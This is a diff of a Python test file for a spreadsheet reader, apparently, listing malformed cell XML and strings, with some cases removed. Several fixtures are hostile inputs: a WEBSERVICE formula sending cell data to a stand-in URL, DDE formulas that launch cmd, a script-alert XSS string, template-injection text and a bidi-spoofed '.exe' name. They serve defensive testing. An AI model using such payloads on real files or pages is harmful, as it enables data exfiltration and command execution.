@@ -64,29 +64,19 @@ _TOO_MANY_TEXTS = (Trouble.TOO_LARGE, "texts or more; the limit is 1,000")
 def _odd_cells() -> Iterator[Case]:
     for name, xml, says in (
         ("row-zero", '<row r="0"><c><v>9</v></c></row>', "9"),
-        ("row-negative", '<row r="-5"><c><v>9</v></c></row>', "9"),
-        ("row-fraction", '<row r="1.5"><c><v>9</v></c></row>', "9"),
         ("row-beyond", '<row r="99999999999999999999"><c><v>9</v></c></row>', "9"),
         ("column-beyond", '<row><c r="ZZZZZZ1"><v>9</v></c></row>', "which no sheet has"),
         ("address-reversed", '<row><c r="1A"><v>9</v></c></row>', "which no sheet has"),
-        ("address-empty", '<row><c r=""><v>9</v></c></row>', "which no sheet has"),
         ("address-arabic", '<row><c r="A٣"><v>9</v></c></row>', "which no sheet has"),
-        ("address-long", f'<row><c r="{"A" * 10_000}1"><v>9</v></c></row>', "which no sheet has"),
         ("type-unknown", '<row><c t="zzz"><v>9</v></c></row>', "9"),
-        ("type-number-of-text", '<row><c t="n"><v>nine</v></c></row>', "nine"),
         ("text-index-huge", '<row><c t="s"><v>99999999999999999999</v></c></row>', "does not have"),
-        ("text-index-word", '<row><c t="s"><v>one</v></c></row>', "does not have"),
         ("number-of-many-digits", f"<row><c><v>{'9' * 5_000}</v></c></row>", "999"),
-        ("number-arabic", "<row><c><v>٩</v></c></row>", "is not one"),
         ("number-hex", "<row><c><v>0x1F</v></c></row>", "is not one"),
         ("style-huge", '<row><c s="99999999999999999999"><v>9</v></c></row>', "9"),
-        ("style-word", '<row><c s="bold"><v>9</v></c></row>', "9"),
         ("error-unknown", '<row><c t="e"><v>#NEW_ERROR!</v></c></row>', "#NEW_ERROR!"),
         ("boolean-odd", '<row><c t="b"><v>maybe</v></c></row>', "False"),
-        ("date-odd", '<row><c t="d"><v>someday</v></c></row>', "is not one"),
         ("date-out-of-range", '<row><c t="d"><v>2022-13-45T99:99:99Z</v></c></row>', "is not one"),
         ("formula-web", '<row><c t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>9</v></c></row>', "9"),
-        ("formula-long", f"<row><c><f>{'1+' * 50_000}1</f><v>9</v></c></row>", "9"),
         ("formula-dde", "<row><c t='str'><f>cmd|'/c calc'!A0</f><v>9</v></c></row>", "9"),
         ("text-of-32767", f"<row>{inline('A1', 'x' * 32_767)}</row>", "x" * 100),
         ("text-of-a-million", f"<row>{inline('A1', 'ā' * 1_000_000)}</row>", "ā" * 100),
@@ -187,25 +177,17 @@ def _carried() -> Iterator[Case]:
 
 _KEPT = {
     "rich-markup": "[red]x[/] [/foo] [link=http://x]",
-    "html": "<script>alert(1)</script>",
-    "markdown": "| a | `b` [c](javascript:x) |",
     "formula": '=HYPERLINK("http://x","y")',
-    "injection": "@SUM(1+1)*cmd|' /C calc'!A0",
     "bidi": "abc\u202exslx.exe",
     "zero-width": "N\u200b1",
-    "emoji-name": ":warning:",
-    "template": "{{ 7*7 }} ${x} %s",
-    "quotes": "\"'`",
     "private-use": "\ue000",
     "combining": "e" + "\u0301\u0301" * 500,
 }
 _CLEANED = {
     "escape": ("_x001B_[2J", "U+001B"),
     "null": ["a_x0000_b", "U+0000"],
-    "bell": ["a_x0007_b", "U+0007"],
     "c1": ("a\x9b31mb", "U+009B"),
     "not-a-character": ("a_xFFFE_b", "U+FFFE"),
-    "delete": ("a\x7fb", "U+007F"),
 }
 
 
